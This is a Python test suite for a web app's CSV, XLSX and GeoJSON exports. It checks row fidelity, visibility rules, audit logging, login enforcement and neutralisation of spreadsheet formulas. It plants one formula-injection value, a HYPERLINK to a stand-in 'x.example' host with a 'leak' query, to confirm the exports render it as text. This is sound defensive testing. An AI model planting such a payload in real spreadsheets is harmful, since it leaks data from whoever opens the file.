"""Exports of the watchlist and of a country's events (CSV, XLSX, GeoJSON): the page's rows,
the page's visibility (an internal report's event only for who may see the report), text
cells safe from formula injection, an audit row per export, and no export without signing
in. On SQLite and PostgreSQL."""

from __future__ import annotations

import csv
import io
import json
import uuid
from typing import Any

import pytest
from fastapi import FastAPI
from fastapi.testclient import TestClient
from openpyxl import load_workbook

from tests.web.fixtures import post_bare_report
from tocsin.store import list_audit

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
PLANTED = '=HYPERLINK("http://x.example/?leak","click")'


def _table(response: Any, fmt: str) -> list[dict[str, Any]]:
    """The export's rows as dicts (XLSX read back with openpyxl), checking its type."""
    assert response.status_code == 200, response.text[-300:]
    assert "attachment" in response.headers["content-disposition"]
    if fmt == "csv":
        assert response.headers["content-type"].startswith("text/csv")
        return list(csv.DictReader(io.StringIO(response.text)))
    assert response.headers["content-type"] == XLSX
    sheet = load_workbook(io.BytesIO(response.content)).active
    values = list(sheet.iter_rows(values_only=True))
    header, body = values[0], values[1:]
    return [dict(zip(header, row, strict=True)) for row in body]


def _last_audit(app: FastAPI, action: str) -> Any:
    with app.state.tocsin.db.session() as session:
        return next(a for a in list_audit(session, limit=20) if a.action == action)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_watchlist_export_holds_the_pages_rows_and_is_audited(
    app: FastAPI, clients: dict[str, TestClient], fmt: str
) -> None:
    client = clients["viewer"]
    page = client.get("/watchlist.json?sort=-risk").json()
    rows = _table(client.get(f"/watchlist.{fmt}?sort=-risk"), fmt)
    assert [r["iso3"] for r in rows] == [r["iso3"] for r in page["rows"]]
    assert [int(r["rank"]) for r in rows] == [r["rank"] for r in page["rows"]]
    assert [float(r["risk"]) for r in rows] == pytest.approx([r["risk"] for r in page["rows"]])
    assert rows and "RF1" in str(rows[0]["drivers"])
    entry = _last_audit(app, "watchlist.export")
    assert entry.actor == "user:viewer"
    assert entry.details["format"] == fmt and entry.details["n_rows"] == len(page["rows"])


def test_event_exports_follow_the_pages_visibility_and_neutralise_formulas(
    app: FastAPI, clients: dict[str, TestClient], post_form: Any
) -> None:
    internal = f"Internal-{uuid.uuid4().hex[:8]}"
    post_bare_report(post_form, "monitor", "internal", internal)
    post_bare_report(post_form, "monitor", "public", PLANTED)
    for username, sees_internal in (("analyst", True), ("viewer", False)):
        client = clients[username]
        page = client.get("/countries/CAF.json").json()["events"]
        shown = {e["uid"] for e in page["recent"]}
        for fmt in ("csv", "xlsx"):
            rows = _table(client.get(f"/countries/CAF/events.{fmt}"), fmt)
            assert len(rows) == page["n_events"], (username, fmt)
            assert shown <= {r["uid"] for r in rows}, (username, fmt)
            places = {r["location"] for r in rows}
            assert (internal in places) == sees_internal, (username, fmt)
            # the planted formula is text: a leading quote, never a formula cell
            assert "'" + PLANTED in places and PLANTED not in places, (username, fmt)
            entry = _last_audit(app, "events.export")
            assert (entry.actor, entry.target) == (f"user:{username}", "CAF")
            assert entry.details["format"] == fmt
            assert entry.details["n_rows"] == len(rows)
            assert internal not in json.dumps(entry.details)  # counts, never content
        geo = client.get("/countries/CAF/events.geojson")
        assert geo.status_code == 200
        assert geo.headers["content-type"].startswith("application/geo+json")
        features = geo.json()["features"]
        assert len(features) == page["n_events"]
        geo_places = {f["properties"]["location"] for f in features}
        assert (internal in geo_places) == sees_internal
        assert _last_audit(app, "events.export").details["format"] == "geojson"


def test_the_xlsx_holds_no_formula_cells(clients: dict[str, TestClient], post_form: Any) -> None:
    post_bare_report(post_form, "monitor", "public", PLANTED)
    response = clients["admin"].get("/countries/CAF/events.xlsx")
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert sheet is not None
    cells = [c for row in sheet.iter_rows() for c in row]
    assert cells and all(c.data_type != "f" for c in cells)
    assert any(c.value == "'" + PLANTED for c in cells)


@pytest.mark.parametrize(
    "path",
    [
        "/watchlist.csv",
        "/watchlist.xlsx",
        "/countries/CAF/events.csv",
        "/countries/CAF/events.xlsx",
        "/countries/CAF/events.geojson",
    ],
)
def test_exports_are_refused_without_signing_in(app: FastAPI, path: str) -> None:
    response = TestClient(app, base_url="https://testserver").get(path, follow_redirects=False)
    assert response.status_code in (302, 303, 401, 403), response.status_code
    assert "attachment" not in response.headers.get("content-disposition", "")


def test_an_unknown_countrys_export_is_not_found(clients: dict[str, TestClient]) -> None:
    assert clients["analyst"].get("/countries/XXX/events.csv").status_code == 404


def test_the_pages_link_their_exports(clients: dict[str, TestClient]) -> None:
    assert "/watchlist.xlsx?sort=rank" in clients["viewer"].get("/watchlist").text
    text = clients["viewer"].get("/countries/CAF").text
    assert "/countries/CAF/events.csv" in text and "/countries/CAF/events.xlsx" in text
